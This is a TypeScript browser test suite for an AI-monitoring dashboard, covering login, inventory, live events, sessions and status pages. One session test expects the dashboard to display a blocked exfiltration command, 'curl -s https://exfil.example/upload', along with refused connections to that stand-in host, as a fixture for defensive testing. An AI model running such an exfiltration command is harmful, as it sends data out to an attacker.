// SPDX-License-Identifier: Apache-2.0
// The built dashboard in Chromium, on the real collector with events that came in over its ingest.
import { timestampFromMs } from "@bufbuild/protobuf/wkt";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Source } from "../../gateway/dashboard/src/api/gen/aispm/v1/event_pb";
import { accessibilityFaults, picture } from "./support/browser";
import { Producer } from "./support/producer";
import { AGENT, billingRun, MASKED_KEY, MECHANISMS, OTHER_AGENT, sensorHealth, sha256, shadowUse, summaryRun, uuid7, WORKSPACE } from "./support/scenario";
import { useVisits } from "./support/visit";

const visits = useVisits();
const { visit } = visits;
let gateway: Producer;
let sensor: Producer;
let billingId: string;
let summaryId: string;

afterAll(() => {
  sensor?.close();
  gateway?.close();
});

describe("before anything was reported", () => {
  test.each([
    ["/", "No LLM calls in this window"],
    ["/inventory/hosts", "No hosts yet"],
    ["/inventory/processes", "No AI processes yet"],
    ["/inventory/agents", "No agents yet"],
    ["/inventory/providers", "No providers yet"],
    ["/inventory/models", "No models yet"],
    ["/events", "No events yet"],
    ["/sessions", "No sessions yet"],
    ["/status", "No component has reported yet"],
  ])("%s says that there is nothing", async (path, words) => {
    const page = await visit(path);
    await page.getByText(words).first().waitFor();
    await picture(page, `empty${path.replaceAll("/", "-")}`);
  });
});

describe("login", () => {
  test("asks for a token and refuses a wrong one", async () => {
    const page = await visits.arrive();
    await picture(page, "login");
    await page.getByLabel("Operator token").fill("aispm-token-wrong");
    await page.getByRole("button", { name: "Log in" }).click();
    await page.getByText("The collector does not know this token.").waitFor();
  });

  test("takes a good token, keeps it in this tab and forgets it at logout", async () => {
    const page = await visits.arrive();
    await page.getByLabel("Operator token").fill(visits.collector.token);
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Overview" }).waitFor();
    expect(await page.evaluate(() => [sessionStorage.length, localStorage.getItem("aispm.token"), document.cookie])).toEqual([1, null, ""]);
    await page.getByRole("button", { name: "Log out" }).click();
    await page.getByText("You are logged out.").waitFor();
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
  });

  test("takes the token of a printed link out of the address at once", async () => {
    const page = await visit("/");
    await page.getByRole("heading", { name: "Overview" }).waitFor();
    expect(page.url()).not.toContain(visits.collector.token);
    await page.goBack();
    expect(page.url()).not.toContain(visits.collector.token);
  });

  test("returns to login when the token is refused later", async () => {
    const page = await visit("/");
    await page.getByRole("heading", { name: "Overview" }).waitFor();
    await page.evaluate(() => sessionStorage.setItem("aispm.token", "aispm-token-revoked"));
    await page.reload();
    await page.getByText("The collector refused the token").waitFor();
  });
});

describe("with two runs and an unsanctioned program", () => {
  beforeAll(async () => {
    const machineId = sha256("machine");
    gateway = await Producer.enrol(visits.collector, { component: "gateway", hostname: "web-01", machineId });
    sensor = await Producer.enrol(visits.collector, { component: "sensord", hostname: "web-01", machineId });
    const start = Date.now() - 60_000;
    billingId = uuid7(start);
    summaryId = uuid7(start + 20_000);
    const billing = billingRun(billingId, start);
    await gateway.report(billing.gateway);
    await sensor.report([...billing.sensor, ...shadowUse(start + 30_000), sensorHealth(Date.now())]);
    await gateway.report(summaryRun(summaryId, start + 20_000));
  });

  test("every number of the overview is the API's", async () => {
    const page = await visit("/");
    const overview = await visits.collector.get("/api/v1/overview?hours=24");
    const tiles: Record<string, string> = {
      Hosts: "hosts", Agents: "agents", Sessions: "sessions", "LLM calls": "llm_calls", Detections: "detections", Denied: "denied",
      Redacted: "redacted", "Sandbox denials": "sandbox_denials", "Unsanctioned AI processes": "unsanctioned_processes", Events: "events",
    };
    await page.getByTestId("tile-Hosts").waitFor();
    for (const [label, field] of Object.entries(tiles)) {
      expect.soft(await page.getByTestId(`tile-${label}`).locator(".tile-value").textContent(), label).toBe(Number(overview[field]).toLocaleString("en-GB"));
    }
    expect(Number(overview["llm_calls"])).toBe(5);
    expect(Number(overview["denied"])).toBe(1);
    const drawn = await page.getByRole("img", { name: /^Calls by provider/ }).getAttribute("aria-label");
    for (const { name, count } of overview["calls_by_provider"]) expect(drawn).toContain(`${name} ${count}`);
    await page.locator("svg").first().waitFor();
    await picture(page, "overview", true);
  });

  test("the inventory lists what was seen", async () => {
    const page = await visit("/inventory/hosts");
    await page.getByRole("cell", { name: /web-01/ }).waitFor();
    await picture(page, "inventory-hosts");
    await page.getByRole("tab", { name: "AI processes" }).click();
    const shadow = page.getByRole("row", { name: /notebook\.py/ });
    await shadow.waitFor();
    expect(await shadow.innerText()).toMatch(/unsanctioned[\s\S]*no sandbox/);
    await picture(page, "inventory-processes");
    await page.getByRole("tab", { name: "Agents" }).click();
    for (const agent of [AGENT, OTHER_AGENT]) await page.getByRole("row", { name: new RegExp(agent) }).waitFor();
    expect(await page.getByRole("row", { name: new RegExp(AGENT) }).innerText()).toContain("coding-agent");  // SBX-033
    await picture(page, "inventory-agents");
    await page.getByRole("tab", { name: "Providers" }).click();
    await page.getByRole("row", { name: /^openai/ }).waitFor();
    await page.getByRole("tab", { name: "Models" }).click();
    const { models } = await visits.collector.get("/api/v1/models");
    await page.getByRole("row", { name: /claude-sonnet/ }).first().waitFor();
    expect(await page.locator("tbody tr").count()).toBe(models.length);
    await page.getByLabel("Search models").fill("claude");
    await page.getByRole("row", { name: /gpt-4o/ }).first().waitFor({ state: "detached" });
    await page.getByLabel("Search models").fill("nothing-like-it");
    await page.getByText("No models match").waitFor();
  });

  test("a table sorts by keyboard", async () => {
    const page = await visit("/inventory/models");
    const calls = page.getByRole("columnheader", { name: /Calls/ });
    await calls.getByRole("button").focus();
    await page.keyboard.press("Enter");
    expect(await calls.getAttribute("aria-sort")).toBe("descending");
    const numbers = (await page.locator("tbody tr td:nth-child(3)").allInnerTexts()).map(Number);
    expect(numbers).toEqual([...numbers].sort((a, b) => b - a));
  });

  test("a live event arrives without reload, and waits while paused", async () => {
    const page = await visit("/events");
    await page.getByRole("status").filter({ hasText: "Live" }).waitFor();
    await page.evaluate(() => Object.assign(window, { unloaded: false }));
    const log = (message: string) => gateway.report([{ id: uuid7(Date.now()), time: timestampFromMs(Date.now()), source: Source.SDK, agentId: OTHER_AGENT, sessionId: summaryId, body: { case: "agentLog", value: { level: "info", message } } }]);
    await log("the live one");
    await page.getByRole("row", { name: /the live one/ }).waitFor();
    await picture(page, "events");
    await page.getByRole("button", { name: "Pause" }).click();
    await log("the held one");
    await page.getByRole("button", { name: /1 waiting/ }).waitFor();
    expect(await page.getByRole("row", { name: /the held one/ }).count()).toBe(0);
    await page.getByRole("button", { name: /Resume/ }).click();
    await page.getByRole("row", { name: /the held one/ }).waitFor();
    expect(await page.evaluate(() => "unloaded" in window)).toBe(true);
  });

  test("events can be filtered, and each opens with its record", async () => {
    const page = await visit(`/events?kind=llm_call&session=${billingId}`);
    await page.getByRole("row", { name: /gpt-4o-mini/ }).first().waitFor();
    expect(await page.locator("tbody tr").count()).toBe(3);
    await page.getByRole("row", { name: /Denied/ }).getByRole("button").first().focus();
    await page.keyboard.press("Enter");
    const drawer = page.getByRole("dialog");
    await drawer.getByText("A tool's result tries to steer the model.", { exact: true }).waitFor();
    await drawer.getByText('"outcome": "OUTCOME_DENY"').waitFor();
    await picture(page, "event-drawer");
    await page.keyboard.press("Escape");
    await drawer.waitFor({ state: "detached" });
    await page.getByLabel("Agent", { exact: true }).fill("nobody");
    await page.getByText("No events fit this filter").waitFor();
  });

  test("sessions are listed with their counts", async () => {
    const page = await visit("/sessions");
    const row = page.getByRole("row", { name: new RegExp(AGENT) });
    await row.waitFor();
    expect(await row.innerText()).toContain("exit code 1");
    expect(await page.getByRole("row", { name: new RegExp(OTHER_AGENT) }).innerText()).toContain("running");
    await picture(page, "sessions");
    await row.getByRole("link").click();
    await page.getByRole("heading", { name: `Session of ${AGENT}` }).waitFor();
  });

  test("a session reads as one story in time order", async () => {
    const page = await visit(`/sessions/${billingId}`);
    const story = page.getByRole("list", { name: "Story of the run" });
    await story.waitFor();
    await picture(page, "session", true);
    expect(await story.locator("> li").evaluateAll((items) => items.map((item) => item.getAttribute("data-step")))).toEqual([
      "start", "exec", "ready", "log", "prompt", "decision", "reply", "exec", "exec", "denial", "connect", "denial",
      "prompt", "detection", "decision", "reply", "prompt", "detection", "detection", "decision", "reply", "log", "exit",
    ]);
    const text = await story.innerText();
    for (const words of ["How much does customer 4711 owe us", MASKED_KEY, "Decision: Redacted", "Decision: Denied", "Reply: HTTP 403",
      "Prompt text is not stored by policy. SHA-256", "curl -s https://exfil.example/upload", "Refused connection to 203.0.113.9:443 (tcp), 3 times",
      "Refused name lookup of exfil.example", "asking about customer 4711", "Sandbox ended: exit code 1",
      "only the gateway can be reached", "limit reached: disk"]) {
      expect.soft(text).toContain(words);
    }
    const connections = page.getByRole("region", { name: "Connections it tried" });
    expect(await connections.innerText()).toMatch(/exfil\.example[\s\S]*refused/);
    expect(await page.getByRole("region", { name: "Processes it started" }).locator("li").count()).toBe(3);
    const run = await page.getByRole("region", { name: "This run" }).innerText();
    for (const words of ["coding-agent", WORKSPACE]) expect.soft(run).toContain(words);  // SBX-033
    expect(await page.getByRole("region", { name: "Isolation in force" }).innerText()).toContain(MECHANISMS[4]);
    await page.getByText("Prompts and decisions").click();
    expect(await story.locator("[data-step=prompt]").count()).toBe(0);
  });

  test("a session that runs grows by itself", async () => {
    const page = await visit(`/sessions/${summaryId}`);
    await page.getByText("running").first().waitFor();
    await gateway.report([{ id: uuid7(Date.now()), time: timestampFromMs(Date.now()), source: Source.SANDBOX, agentId: OTHER_AGENT, sessionId: summaryId, body: { case: "sandboxExit", value: { exitCode: 0, durationUs: 5_000_000n } } }]);
    await page.getByText("Sandbox ended: exit code 0").waitFor();
  });

  test("an unknown session is an error that says so", async () => {
    const page = await visit(`/sessions/${uuid7(Date.now())}`);
    await page.getByRole("alert").getByText("Not found").waitFor();
  });

  test("status shows components, reasons and losses by cause", async () => {
    const page = await visit("/status");
    const panel = page.getByRole("region", { name: "sensord on web-01" });
    await panel.waitFor();
    const text = await panel.innerText();
    for (const words of ["connected", "degraded", "raise rings.data", "ring_full.data.bytes", "8,192", "btf: yes"]) expect.soft(text).toContain(words);
    await picture(page, "status", true);
  });

  test.each(["light", "dark"] as const)("pages have no serious accessibility fault in %s", async (colorScheme) => {
    const page = await visit("/", { colorScheme });
    for (const [path, ready] of [["/", "Latest detections"], ["/inventory/hosts", "web-01"], ["/inventory/processes", "notebook.py"], ["/events", "Component health"],
      ["/sessions", AGENT], [`/sessions/${billingId}`, "What happened"], ["/status", "Counters since start"]] as const) {
      await page.goto(`${visits.collector.url}/#${path}`);
      await page.getByText(ready).first().waitFor();
      expect.soft(await accessibilityFaults(page), path).toEqual([]);
    }
  });

  test.each([["dark", { colorScheme: "dark" }], ["phone", { width: 390, height: 844 }]] as const)("%s view keeps within the screen", async (name, view) => {
    const page = await visit("/", view);
    await page.getByTestId("tile-Hosts").waitFor();
    for (const [path, ready] of [["/", "Calls by model"], [`/sessions/${billingId}`, "What happened"], ["/events", "Seen by"], ["/status", "Counters since start"]] as const) {
      await page.goto(`${visits.collector.url}/#${path}`);
      await page.getByText(ready).first().waitFor();
      expect.soft(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth), path).toBeLessThanOrEqual(0);
      await picture(page, `${name}${path.replaceAll("/", "-").slice(0, 10)}`, name === "dark");
    }
  });
});

// Last: it stops the collector.
describe("when the collector is gone", () => {
  test("pages say so, and recover when it is back", async () => {
    const page = await visit("/");
    await page.getByTestId("tile-Hosts").waitFor();
    await page.getByRole("link", { name: "Live events" }).click();
    await page.getByRole("status").filter({ hasText: "Live" }).waitFor();
    await visits.collector.stop();
    await page.getByText("The live stream is interrupted").waitFor();
    await picture(page, "error-events");
    await page.getByRole("link", { name: "Sessions", exact: true }).click();
    await page.getByRole("alert").getByText("Collector unreachable").waitFor();
    await picture(page, "error-sessions");
    await visits.collector.start();
    await page.getByRole("link", { name: "Live events" }).click();
    await page.getByRole("status").filter({ hasText: "Live" }).waitFor({ timeout: 30_000 });
    await page.getByRole("row", { name: /Sandbox ended/ }).first().waitFor();
  });
});
